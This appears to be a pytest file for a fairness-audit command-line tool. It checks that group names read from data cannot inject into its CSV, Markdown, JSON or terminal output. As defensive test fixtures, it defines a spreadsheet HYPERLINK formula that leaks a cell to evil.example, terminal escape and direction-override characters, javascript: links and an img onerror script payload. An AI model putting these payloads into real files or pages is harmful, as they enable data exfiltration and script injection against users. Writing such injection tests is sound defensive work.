"""Names that come from data, through the real commands: no output obeys one or hides one."""

import csv
import io
import json
from dataclasses import replace

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from plumbline.audit.options import AuditOptions
from plumbline.cli import main
from plumbline.metrics.groups.contingency import table_to_contingency
from plumbline.standards import decisions
from tests.artifacts.test_plain_text import hidden
from tests.audit.external.test_decisions import people, written

NAMES = st.text(st.characters(codec="utf-8"), max_size=20)  # what a file can hold
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE = {"A": FORMULA, "B": "\x1b[2J\u202emale", "C": "[x](javascript:alert(1))"}
MARKUP = {
    "A": "![x](http://evil.example/x.png)|b",
    "B": "<img src=x onerror=alert(1)>`",
    "C": "[x](javascript:alert(1))",
}


def commands(folder, groups):
    table = people(400).assign(race=lambda t: t["race"].map(groups))
    path = str(written(folder, table))
    shared = [path, "--decision", "yhat", "--label", "y", "--attributes", "sex,race"]
    return {
        "csv": ["audit", *shared, "--format", "csv"],
        "md": ["audit", *shared, "--format", "md", "--plan"],
        "table": ["audit", *shared, "--full", "--plan", "--search", "1", "--pairs"],
        "json": ["audit", *shared, "--format", "json"],
        "worksheets": ["standards", *shared],
    }


@pytest.mark.no_cover
@pytest.mark.parametrize("form", ["csv", "md", "table", "json", "worksheets"])
def test_no_output_of_a_command_has_controls_or_formulas_of_a_group_name(tmp_path, capsys, form):
    assert main.main(commands(tmp_path, HOSTILE)[form]) == 0
    text = capsys.readouterr().out
    assert not hidden(text.replace("\n", ""))
    assert "2J" in text  # shown, not left out
    if form == "csv":
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert f"'{FORMULA}" in cells
        assert not [cell for cell in cells if cell[:1] in set("=+@")]
        for row in csv.DictReader(io.StringIO(text)):  # numbers below 0 stay numbers
            assert all(float(row[name] or 0) == float(row[name] or 0) for name in ("low", "value"))
    if form == "json":
        assert {row["group"] for row in json.loads(text)["rows"]} >= set(HOSTILE.values())


@pytest.mark.parametrize("form", ["md", "worksheets"])
def test_a_group_name_is_text_in_markdown_whatever_it_says(tmp_path, capsys, form):
    assert main.main(commands(tmp_path, MARKUP)[form]) == 0
    text = capsys.readouterr().out
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    inline = [child for token in tokens for child in token.children or ()]
    assert not [c for c in inline if c.type in ("link_open", "image", "html_inline")]
    assert not [token for token in tokens if token.type == "html_block"]
    cells = {
        "".join(c.content for c in token.children)
        for token in tokens
        if token.type == "inline" and token.children
    }
    assert cells >= set(MARKUP.values())


def test_an_error_quotes_a_value_without_what_a_terminal_obeys(tmp_path, capfd):
    import subprocess
    import sys

    path = written(tmp_path, people(50))
    words = ["audit", str(path), "--label", "y", "--decision", "\x1b[2J\u202ebad", "--attributes"]
    done = subprocess.run(
        [sys.executable, "-m", "plumbline.cli", *words, "sex"], capture_output=True, check=False
    )
    assert done.returncode == 3
    assert not hidden(done.stderr.decode().replace("\n", ""))


@pytest.mark.no_cover
@settings(max_examples=25, deadline=None)
@given(
    st.lists(NAMES.map(str.strip).filter(bool), min_size=2, max_size=2, unique=True),
    NAMES.filter(bool),
    st.sampled_from(["table", "md", "csv", "json"]),
)
def test_no_format_of_an_audit_has_a_control_for_any_name(groups, attribute, form):
    table = pd.DataFrame({"y_true": [0, 1] * 60, "y_pred": [0, 1, 1] * 40, "a": ["f", "m"] * 60})
    counted = table_to_contingency(table, attributes=["a"], classes=["0", "1"], positive="1")
    named = replace(counted, attributes=(attribute,), values=(tuple(sorted(groups)),))
    options = decisions.Options(
        columns=None, threshold=None, positive=None, favourable=None, multiclass=False,
        audit=AuditOptions(confidence=0.95, replicates=10, seed=0, min_group_size=5), memory="1GB",
    )  # fmt: skip
    audit = decisions.contingency_to_audit(named, options, "file")
    text = decisions.render(audit, form)
    assert not hidden(text.replace("\n", ""))
    text.encode()
